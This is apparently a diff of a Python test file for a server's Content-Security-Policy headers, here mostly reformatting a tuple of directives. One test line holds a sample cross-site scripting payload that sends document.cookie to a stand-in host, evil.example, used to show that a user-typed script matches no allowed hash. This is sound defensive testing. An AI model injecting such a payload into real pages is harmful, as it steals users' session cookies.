@@ -1,5 +1,6 @@
 """The security headers serve.py puts on every response: the policy admits the server's own
 inline scripts by hash (plain or gzipped pages) and nothing else."""
+
 from __future__ import annotations
 
 import asyncio
@@ -57,6 +58,11 @@ def test_other_responses_get_the_policy_without_any_script_hash():
 
 def test_a_script_a_user_typed_would_match_no_hash():
     assert inline_script_hashes(b"<script>fetch('//evil.example/'+document.cookie)</script>") != [OWN]
-    for directive in ("img-src 'self' data: blob:", "form-action 'self'", "object-src 'none'",
-                      "frame-ancestors 'self'", "font-src 'self' data:"):
+    for directive in (
+        "img-src 'self' data: blob:",
+        "form-action 'self'",
+        "object-src 'none'",
+        "frame-ancestors 'self'",
+        "font-src 'self' data:",
+    ):
         assert directive in policy("h", [])
